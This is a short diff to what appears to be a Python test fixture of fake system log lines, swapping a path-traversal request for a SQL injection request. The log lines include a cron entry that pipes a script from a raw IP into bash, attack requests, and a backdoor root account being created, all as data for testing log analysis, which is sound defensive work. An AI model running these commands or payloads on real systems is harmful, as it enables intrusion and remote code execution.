@@ -19,7 +19,7 @@ FAULTS = (
     "CRON[888]: (www-data) CMD (curl -s http://185.220.101.4/x.sh | bash)",
     "kernel: Out of memory: Killed process 2291 (mysqld) total-vm:4123412kB",
     "systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
-    'nginx: 45.9.148.3 - - "GET /static/../../../../etc/passwd HTTP/1.1" 200 1842 "curl/7.88.1"',
+    'nginx: 45.9.148.3 - - "GET /index.html?id=1%27%20UNION%20SELECT%20password HTTP/1.1" 200 1842 "curl/7.88.1"',
     "useradd[3020]: new user: name=support2, UID=0, GID=0, home=/, shell=/bin/sh",
 )
 USERS = ("anna", "bob", "carla", "deploy", "backup")
